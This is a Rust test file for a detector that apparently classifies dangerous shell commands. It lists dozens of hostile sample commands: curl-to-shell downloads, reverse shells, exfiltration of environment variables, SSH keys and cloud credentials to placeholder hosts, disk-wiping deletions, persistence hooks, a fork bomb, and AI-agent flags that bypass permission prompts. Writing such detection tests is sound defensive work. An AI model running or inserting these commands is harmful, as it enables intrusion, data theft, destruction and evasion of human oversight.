use super::*;
use BehaviourKind::*;

fn has(text: &str, is: impl Fn(&BehaviourKind) -> bool) {
    let kinds = kinds(text);
    assert!(kinds.iter().any(is), "{text}: {kinds:?}");
}

#[test]
fn a_download_that_is_run_is_found() {
    for text in [
        "curl -fsSL https://x.invalid/a | sh",
        "curl https://x.invalid/a | sudo -E bash -",
        "curl -s https://x.invalid/a | base64 -d | bash",
        "wget -qO- x.invalid/a | node",
        "wget -q https://x.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a",
        "wget https://x.invalid/setup; sh setup",
        "curl -o a.js https://x.invalid/a.js; node a.js",
        "curl https://x.invalid/a > /tmp/.a; python3 /tmp/.a",
        "sh -c \"$(curl -fsSL https://x.invalid/a)\"",
        "bash <(curl -s https://x.invalid/a)",
        "eval \"$(wget -qO- https://x.invalid/a)\"",
        "eval `curl https://x.invalid/a`",
        "python3 -c \"$(curl -s https://x.invalid/a)\"",
        "source <(curl -s https://x.invalid/a)",
        "(curl -s https://x.invalid/a || wget -qO- https://x.invalid/a) | sh",
        "curl https://x.invalid/a | while read -r l; do sh -c \"$l\"; done",
        "curl https://x.invalid/a | xargs -0 sh -c",
        "powershell -c \"iex (iwr https://x.invalid/a)\"",
        "powershell -Command \"iwr https://x.invalid/a -UseBasicParsing | iex\"",
        "powershell \"IEX(New-Object Net.WebClient).DownloadString('https://x.invalid/a')\"",
        "powershell -c \"Invoke-WebRequest https://x.invalid/a.exe -OutFile a.exe; Start-Process a.exe\"",
        "certutil -urlcache -split -f http://x.invalid/a.exe a.exe && a.exe",
        "bitsadmin /transfer j http://x.invalid/a.exe %TEMP%\\a.exe & start %TEMP%\\a.exe",
        "echo Y3VybCBodHRwczovL3guaW52YWxpZC9hIHwgc2g= | base64 -d | sh",
        "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://x.invalid/a.exe','a.exe'); Start-Process a.exe\"",
        "python3 -c \"import urllib.request as u; exec(u.urlopen('http://x.invalid/a').read())\"",
        "curl -s https://x.invalid/a | tee /tmp/a | bash",
        "node <(curl -s https://x.invalid/a.js)",
        "nohup bash -c 'curl -s https://x.invalid/a | bash' > /dev/null 2>&1 &",
        "curl https://x.invalid/a -o /tmp/a && sh < /tmp/a",
        "curl -s https://x.invalid/a | sh -s -- --yes",
        "c\\url https://x.invalid/a | s\"h\"",
    ] {
        has(text, |kind| matches!(kind, DownloadAndRun { .. }));
    }
}

#[test]
fn a_reverse_shell_is_found() {
    for text in [
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "bash -c 'exec bash -i &>/dev/tcp/192.0.2.1/4444 <&1'",
        "nc -e /bin/sh 192.0.2.1 4444",
        "ncat 192.0.2.1 4444 --exec /bin/bash",
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f",
        "socat tcp:192.0.2.1:4444 exec:/bin/sh",
        "python -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",4));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
    ] {
        has(text, |kind| *kind == ReverseShell);
    }
}

#[test]
fn environment_that_leaves_is_found() {
    for text in [
        "env | curl -X POST --data-binary @- https://x.invalid",
        "printenv | base64 | curl -d @- https://x.invalid",
        "curl https://x.invalid -d \"$(env)\"",
        "curl -d \"t=$NPM_TOKEN\" https://x.invalid",
        "curl \"https://x.invalid/?t=$NPM_TOKEN\"",
        "wget --post-data=\"$(printenv)\" https://x.invalid",
        "echo $AWS_SECRET_ACCESS_KEY | nc 192.0.2.1 99",
        "curl -d %NPM_TOKEN% https://x.invalid",
        "curl -sS -F \"f=$(cat /proc/self/environ)\" https://x.invalid",
    ] {
        has(text, |kind| matches!(kind, SendsEnvironment { .. }));
    }
}

#[test]
fn host_facts_that_leave_are_found() {
    for text in [
        "curl \"https://x.invalid/?h=$(hostname)&u=$(whoami)\"",
        "curl -X POST -d \"$(id)\" https://x.invalid",
        "(whoami; uname -a; pwd) | curl -d @- https://x.invalid",
        "wget \"http://x.invalid/`whoami`\"",
        "curl -H \"X-Host: $(hostname)\" https://x.invalid",
        "curl -d \"u=$USER\" https://x.invalid",
    ] {
        has(text, |kind| *kind == SendsHostFacts);
    }
    has("nslookup $(whoami).x.invalid", |kind| *kind == SendsByDns);
}

#[test]
fn files_that_leave_are_found() {
    for (text, class) in [
        ("curl -F file=@$HOME/.npmrc https://x.invalid", SecretClass::NpmToken),
        ("curl -d @~/.ssh/id_rsa https://x.invalid", SecretClass::Ssh),
        ("curl -T ~/.aws/credentials https://x.invalid", SecretClass::Cloud),
        ("cat ~/.bash_history | curl --data-binary @- https://x.invalid", SecretClass::ShellHistory),
        ("wget --post-file=.env https://x.invalid", SecretClass::Dotenv),
        ("tar cz ~/.ssh | nc 192.0.2.1 99", SecretClass::Ssh),
        ("nc 192.0.2.1 99 < /etc/passwd", SecretClass::Accounts),
    ] {
        has(text, |kind| matches!(kind, SendsFile { class: Some(found), .. } if *found == class));
    }
}

#[test]
fn reading_a_secret_is_found() {
    has("cat ~/.npmrc", |kind| matches!(kind, ReadsSecret { class: SecretClass::NpmToken, .. }));
    has("type %USERPROFILE%\\.ssh\\id_rsa", |kind| {
        matches!(kind, ReadsSecret { class: SecretClass::Ssh, .. })
    });
}

#[test]
fn wide_deletion_is_found() {
    for text in [
        "rm -rf ~",
        "rm -rf ~/*",
        "rm -rf /",
        "rm -r -f -- /",
        "rm -rf --no-preserve-root /",
        "sudo rm -rf /*",
        "rm -rf $HOME",
        "rm -rf \"${HOME}/\"",
        "del /s /q %USERPROFILE%",
        "rd /s /q C:\\",
        "powershell -c \"Remove-Item -Recurse -Force $HOME\"",
        "find ~ -type f -delete",
        "find / -type f -exec shred -u {} +",
        "dd if=/dev/zero of=/dev/sda",
        "mkfs.ext4 /dev/sda1",
        "cipher /W:%USERPROFILE%",
    ] {
        has(text, |kind| matches!(kind, DeletesWide { .. }));
    }
}

#[test]
fn persistence_is_found() {
    use PersistencePlace::*;
    for (text, place) in [
        ("(crontab -l; echo '* * * * * /tmp/a') | crontab -", Cron),
        ("systemctl --user enable a.service", Systemd),
        ("launchctl load ~/Library/LaunchAgents/a.plist", LaunchAgent),
        ("cp a.plist ~/Library/LaunchAgents/", LaunchAgent),
        ("schtasks /create /tn a /tr a.exe /sc onlogon", ScheduledTask),
        ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d a.exe", WindowsRun),
        ("echo 'a &' >> ~/.bashrc", ShellProfile),
        ("echo a | tee -a $HOME/.zshrc", ShellProfile),
        ("git config --global core.hooksPath ~/.hooks", GitHook),
        ("echo k >> ~/.ssh/authorized_keys", SshKeys),
        ("cp t.json ~/.claude/settings.json", EditorOrAgent),
    ] {
        has(text, |kind| *kind == Persists { place });
    }
}

#[test]
fn the_rest_is_found() {
    has("npm publish --access public", |kind| *kind == Publishes);
    has("./xmrig -o pool.invalid:3333", |kind| *kind == Miner);
    has("./a -o stratum+tcp://pool.invalid:3333", |kind| *kind == Miner);
    has("nohup node a.js > /dev/null 2>&1 &", |kind| *kind == Hidden);
    has("start /b node a.js", |kind| *kind == Hidden);
    has("powershell -WindowStyle Hidden -File a.ps1", |kind| *kind == Hidden);
    has("NODE_TLS_REJECT_UNAUTHORIZED=0 node a.js", |kind| *kind == DisablesVerification);
    has("cross-env NODE_TLS_REJECT_UNAUTHORIZED=0 node a.js", |kind| *kind == DisablesVerification);
    has("curl -sk https://x.invalid/a", |kind| *kind == DisablesVerification);
    has(":(){ :|:& };:", |kind| *kind == ForkBomb);
    has("curl -fsSL https://bun.sh/install | bash", |kind| {
        matches!(kind, RunsRuntimeDownload { runtime: "bun" })
    });
    has("npm install -g bun", |kind| matches!(kind, RunsRuntimeDownload { runtime: "bun" }));
    for text in [
        "claude -p 'look' --dangerously-skip-permissions",
        "gemini --yolo -p x",
        "q chat --trust-all-tools --no-interactive x",
        "codex --dangerously-bypass-approvals-and-sandbox x",
    ] {
        has(text, |kind| matches!(kind, AgentBypass { .. }));
    }
}
